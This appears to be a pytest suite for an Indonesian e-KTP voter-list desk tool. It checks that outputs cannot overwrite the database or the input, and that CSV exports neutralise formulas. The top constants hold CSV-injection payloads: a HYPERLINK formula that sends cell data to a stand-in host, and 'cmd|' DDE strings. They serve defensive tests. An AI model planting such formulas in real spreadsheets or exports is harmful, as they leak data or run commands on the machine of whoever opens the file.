"""Outputs of `import --errors` and `letters --out/--receipts/--per-letter` refused, before
any work, when they would overwrite the database, its companion files, the input or each
other (the database's bytes unchanged, no letter numbered); every csv the program writes
has no formula cell; a report that cannot be written is found before the import; a name of
long multi-byte letters still makes a per-letter file."""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import hashlib
import io
import json
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

from ektp_desk.core import db as core_db
from ektp_desk.core import demo, scheduling
from ektp_desk.core.letters import batch
from tests import cli_helpers
from tests.kpu_files import person, write_kpu_csv
from tests.letter_helpers import give_logo
from tests.plan_helpers import without_pupil_rule

HOSTILE_NAME = "=HYPERLINK(\"http://x.test/?\"&A1,\"klik\")"
HOSTILE_CMD = "+cmd|' /C calc'!A0"
HOSTILE_ADDRESS = "-2+3+cmd|' /C calc'!A0"
HOSTILE_NOTE = "@SUM(1+1)*cmd|' /C calc'!A0"


def ektp(*args: object, db: Path, status: int = 0) -> subprocess.CompletedProcess[str]:
    # a clerk printing before polling day (the demo's election is 14 February 2024)
    return cli_helpers.ektp(db, *args, status=status, env={"EKTP_DESK_TODAY": "2024-01-15"})


def fingerprint(db: Path) -> dict[str, str | None]:
    """The bytes of the database and its companion files (None: no such file)."""
    return {suffix: (hashlib.sha256(Path(f"{db}{suffix}").read_bytes()).hexdigest()
                     if Path(f"{db}{suffix}").exists() else None)
            for suffix in ("", "-wal", "-shm")}


def count(db: Path, table: str) -> int:
    with contextlib.closing(sqlite3.connect(db)) as conn:  # closed: no -wal left behind
        return conn.execute(f"SELECT count(*) FROM {table}").fetchone()[0]


@pytest.fixture
def kpu_csv(tmp_path: Path) -> Path:
    crowd = [person(HOSTILE_NAME, serial=12),
             person(HOSTILE_CMD, serial=13, address=HOSTILE_ADDRESS, note=HOSTILE_NOTE)]
    crowd.append(crowd[0])  # a duplicate: the report holds a real NIK, date and RT
    crowd.append(person(HOSTILE_CMD, nik="3.37501E+15", serial=14))  # rejected
    return write_kpu_csv(tmp_path / "daftar_kpu.csv", crowd)


@pytest.fixture
def imported(tmp_path: Path, kpu_csv: Path) -> Path:
    db = tmp_path / "data" / "ektp.sqlite"
    ektp("import", kpu_csv, db=db)
    return db


@pytest.mark.parametrize("target", ["db", "db-wal", "db-shm", "backup", "input"])
def test_import_errors_over_the_database_or_the_input_is_refused(imported, kpu_csv, target):
    out = {"db": imported, "db-wal": Path(f"{imported}-wal"),
           "db-shm": Path(f"{imported}-shm"),
           "backup": imported.parent / "backups" / "ektp.schema1.sqlite",
           "input": kpu_csv}[target]
    before, source = fingerprint(imported), kpu_csv.read_bytes()
    batches = count(imported, "import_batch")
    done = ektp("import", kpu_csv, "--errors", out, db=imported, status=1)
    assert str(out) in done.stderr and "Tidak ada yang diubah" in done.stderr
    assert ("sedang dibaca" if target == "input" else "basis data") in done.stderr
    assert fingerprint(imported) == before and kpu_csv.read_bytes() == source
    assert count(imported, "import_batch") == batches  # no import was even started


def test_an_unwritable_report_is_found_before_importing(tmp_path, kpu_csv):
    db = tmp_path / "ektp.sqlite"
    blocker = tmp_path / "berkas"
    blocker.write_text("x")
    done = ektp("import", kpu_csv, "--errors", blocker / "laporan.csv", db=db, status=1)
    assert "Tidak dapat menulis" in done.stderr
    assert not db.exists()  # refused before the database was opened


def test_a_report_that_fails_after_the_import_says_both(tmp_path, kpu_csv, monkeypatch):
    """The path was fine when checked but the write fails (a stick pulled out): the saved
    import's summary is printed, then the failed report, exit 1."""
    from ektp_desk.cli import main
    from ektp_desk.core import importer
    from ektp_desk.core.errors import UserError

    def fails(result, out, **recorded_with):  # db: the report's export is audited
        raise UserError("write_failed", path=out, detail="perangkat dilepas")

    monkeypatch.setattr(importer, "write_error_report", fails)
    db = tmp_path / "ektp.sqlite"
    stderr = io.StringIO()
    monkeypatch.setattr(sys, "stderr", stderr)
    assert main(["--db", str(db), "import", str(kpu_csv), "--errors",
                 str(tmp_path / "laporan.csv")]) == 1
    said = stderr.getvalue()
    assert "2 baru" in said and "perangkat dilepas" in said
    assert "hasil impor di atas tetap berlaku" in said
    assert count(db, "person") == 2


def test_the_csv_error_report_has_no_formula_and_keeps_real_values(imported, kpu_csv,
                                                                    tmp_path):
    report = tmp_path / "kesalahan.csv"
    ektp("import", kpu_csv, "--errors", report, db=imported)
    rows = list(csv.reader(io.StringIO(report.read_text(encoding="utf-8-sig"), newline="")))
    _header, duplicate, rejected = rows
    assert duplicate[2:4] == ["3375011402070012", "'" + HOSTILE_NAME]
    assert duplicate[5] == "14-02-2007" and duplicate[9:11] == ["001", "002"]
    assert rejected[3] == "'" + HOSTILE_CMD
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r"))
                   for row in rows for cell in row)


def test_people_csv_has_no_formula_and_keeps_real_values(imported):
    done = ektp("people", "--format", "csv", "--unmasked", db=imported)
    rows = list(csv.DictReader(io.StringIO(done.stdout, newline="")))
    by_nik = {r["nik"]: r for r in rows}
    assert set(by_nik) == {"3375011402070012", "3375011402070013"}
    hostile = by_nik["3375011402070013"]
    assert hostile["name"].startswith("'+") and hostile["address"] == "'" + HOSTILE_ADDRESS
    assert by_nik["3375011402070012"]["name"].startswith("'=")
    assert hostile["birth_date"] == "2007-02-14" and (hostile["rt"], hostile["rw"]) == (
        "001", "002")
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r"))
                   for r in rows for v in r.values())


@pytest.fixture(scope="module")
def summoned(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("outputs") / "ektp.sqlite"
    db = core_db.open_database(path, bind=False)
    demo.fill(db, 8, build_index=False)
    give_logo(db)
    # a name of long multi-byte letters: 80 letters are 240 bytes of UTF-8
    db.execute_sql("UPDATE person SET name = ? WHERE id = (SELECT min(id) FROM person)",
                   ("ḀḂḄḆḈḊḌḎ" * 12,))
    without_pupil_rule(db)
    plan = scheduling.plan(db, scheduling.Selection(), dt.date(2024, 2, 5),
                           dt.date(2024, 2, 16), today=dt.date(2024, 1, 15),
                           past_election=True)
    scheduling.apply_plan(db, plan, today=dt.date(2024, 1, 15))
    db.close()
    return path


@pytest.mark.parametrize("option,target", [
    ("--out", "db"), ("--out", "db-wal"), ("--receipts", "db"), ("--receipts", "db-shm"),
    ("--receipts", "same as --out"), ("--per-letter", "backups")])
def test_letters_over_the_database_or_each_other_are_refused(summoned, tmp_path, option,
                                                              target):
    out = tmp_path / "surat.pdf"
    path = {"db": summoned, "db-wal": Path(f"{summoned}-wal"),
            "db-shm": Path(f"{summoned}-shm"), "same as --out": out,
            "backups": summoned.parent / "backups"}[target]
    args = ["--out", path if option == "--out" else out]
    if option != "--out":
        args += [option, path]
    before = fingerprint(summoned)
    done = ektp("letters", "--unprinted", *args, db=summoned, status=1)
    assert str(path) in done.stderr and "Tidak ada yang diubah" in done.stderr
    assert fingerprint(summoned) == before
    assert count(summoned, "letter") == 0 and not out.exists()


def test_a_long_multibyte_name_still_gets_its_own_file(summoned, tmp_path):
    folder = tmp_path / "satu"
    done = json.loads(ektp("letters", "--unprinted", "--out", tmp_path / "surat.pdf",
                           "--per-letter", folder, "--letter-date", "2024-01-20", "--json",
                           db=summoned).stdout)
    files = sorted(folder.glob("*.pdf"))
    assert len(files) == done["letters"] == 8
    long_one = [f for f in files if f.name.startswith("ḀḂḄ")]
    assert len(long_one) == 1 and len(long_one[0].name.encode()) <= batch.NAME_MAX_BYTES
    assert long_one[0].name.endswith("Dindukcapil-I-2024).pdf")


def test_the_csv_error_report_imports_again_as_the_list_was(imported, kpu_csv, tmp_path):
    """The quote that made a cell safe is not read into the data when the report, fixed,
    is imported again."""
    report = tmp_path / "kesalahan.csv"
    ektp("import", kpu_csv, "--errors", report, db=imported)
    again = tmp_path / "lagi.sqlite"
    ektp("import", report, db=again)

    def names(db: Path) -> set[str]:
        with contextlib.closing(sqlite3.connect(db)) as conn:
            return {r[0] for r in conn.execute(
                "SELECT name FROM person WHERE nik = '3375011402070012'")}

    assert names(again) == names(imported) and next(iter(names(again))).startswith("=")
